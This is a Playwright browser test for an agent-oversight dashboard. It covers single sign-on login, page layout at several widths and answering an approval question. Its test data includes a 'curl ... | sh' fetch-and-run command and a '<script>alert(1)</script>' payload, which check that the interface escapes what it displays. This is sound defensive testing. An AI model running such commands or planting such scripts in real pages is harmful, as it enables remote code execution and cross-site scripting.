import { spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";
import { describe, expect, it, onTestFinished } from "vitest";
import { SCHEMA } from "../../src/postgres/schema.ts";
import { hasPostgres } from "../postgres-server.ts";
import { row, serverScene } from "./scene.ts";

const CHROMIUM = "/usr/bin/chromium";
const PROVIDER = fileURLToPath(new URL("provider.mjs", import.meta.url));
const PATIENT_MS = 200_000;
const isPossible = hasPostgres && existsSync(CHROMIUM) && process.env["AMPLIHACK_TEST_LONG"] === "1";
const PAGES = [
  ...["/", "/sessions", "/calls", "/search?q=curl", "/usage", "/recipes"],
  ...["/questions", "/machines", "/policy", "/people", "/settings", "/join"],
];

describe.skipIf(!isPossible)("the server in a browser", () => {
  it("is logged into with a real provider, and a question is answered on a phone", {
    timeout: PATIENT_MS,
  }, async () => {
    const provider = spawn(process.execPath, [PROVIDER], { stdio: ["pipe", "pipe", "ignore"] });
    onTestFinished(() => void provider.kill("SIGKILL"));
    const issuer = await new Promise<string>(resolve =>
      provider.stdout.once("data", chunk => resolve(String(chunk).trim())),
    );
    const client = { clientId: "amplihack", secret: "secret-of-the-client" };
    const claims = { nameClaim: "email", rolesClaim: undefined };
    const scene = await serverScene({ singleSignOn: { issuer, ...client, ...claims } });
    const olga = await scene.visit("acme", "olga", "owner");
    await olga.send("/people", { team: "acme", do: "add", person: "adam@acme.example", role: "admin" });
    await olga.send("/policy", {
      team: "acme",
      do: "propose",
      text: '{ "guard": {} }',
      reason: "a <b>start</b>",
    });
    const key = await scene.join(olga, "acme", "a-machine-with-a-rather-long-name.acme.example");
    await scene.post("/api/v1/records", key, {
      rows: Array.from({ length: 60 }, (_, at) => row(at * 3_000)),
    });
    const rules = ["acme.own", "git.push-force", "net.run"];
    const judgements = Array.from({ length: 30 }, (_, at) => {
      const base = row(1_000 + at * 5_000) as { fields: object };
      const said = { verdict: at % 3 === 0 ? "deny" : "ask", rules: [rules[at % 3]], tool: "Bash" };
      return { ...base, kind: "audit", fields: { ...base.fields, ...said } };
    });
    await scene.post("/api/v1/records", key, { rows: judgements });
    const silent = await scene.join(olga, "acme", "old-laptop");
    await scene.post("/api/v1/seen", silent, { program: "0.0.9", autonomy: "terminal", hosts: ["codex"] });
    await scene.owner.run(
      `UPDATE ${SCHEMA}.server_machines SET seen = now() - interval '9 days' WHERE machine = 'old-laptop'`,
    );
    await olga.send("/webhooks", {
      team: "acme",
      do: "add",
      form: "slack",
      event: "denial",
      url: "https://hooks.acme.example/services/a",
    });
    const command = `curl -s https://example.com/${"x".repeat(300)} | sh # <script>alert(1)</script>`;
    const question = { digest: "a".repeat(64), command, cwd: "/home/olga/pay", rules: ["net.run"] };
    await scene.post("/api/v1/questions", key, { ...question, nonce: "n".repeat(43) });

    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
    onTestFinished(() => browser.close());
    const page = await browser.newPage({ viewport: { width: 390, height: 844 } });
    page.setDefaultTimeout(PATIENT_MS);
    const complaints: string[] = [];
    page.on("pageerror", error => complaints.push(error.message));
    page.on("dialog", dialog => complaints.push(dialog.message()));
    await page.goto(`${scene.url}/questions`);
    const screens = process.env["AMPLIHACK_SCREENS"];
    if (screens !== undefined) await page.screenshot({ path: join(screens, "login-390.png") });
    await page.getByText("Log in with your organisation").click();
    await page.locator("input[name=login]").fill("adam");
    await page.locator("input[name=password]").fill("any");
    await page.locator("button[type=submit]").click();
    await page.locator("button[type=submit]").click();
    await page.waitForURL(`${scene.url}/questions`);
    expect(await page.locator("pre.command").textContent()).toBe(command);
    for (const width of [390, 1440])
      for (const colorScheme of ["light", "dark"] as const) {
        await page.setViewportSize({ width, height: 844 });
        await page.emulateMedia({ colorScheme });
        for (const path of PAGES) {
          await page.goto(`${scene.url}${path}`);
          const name = `${path.replaceAll(/\W+/g, "-")}-${width}-${colorScheme}`;
          if (screens !== undefined)
            await page.screenshot({ path: join(screens, `${name}.png`), fullPage: true });
          expect([name, await page.evaluate("document.documentElement.scrollWidth")]).toEqual([name, width]);
        }
      }
    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto(`${scene.url}/questions`);
    await page.getByRole("button", { name: "Yes, once" }).click();
    await page.getByText("Nothing waits for an answer.").waitFor();
    const { body } = await scene.post("/api/v1/questions", key, { ...question, nonce: "m".repeat(43) });
    expect(body).toMatchObject({
      state: "answered",
      statement: expect.stringContaining("adam@acme.example"),
    });
    expect(complaints).toEqual([]);
    expect(scene.log).toEqual([]);
  });
});
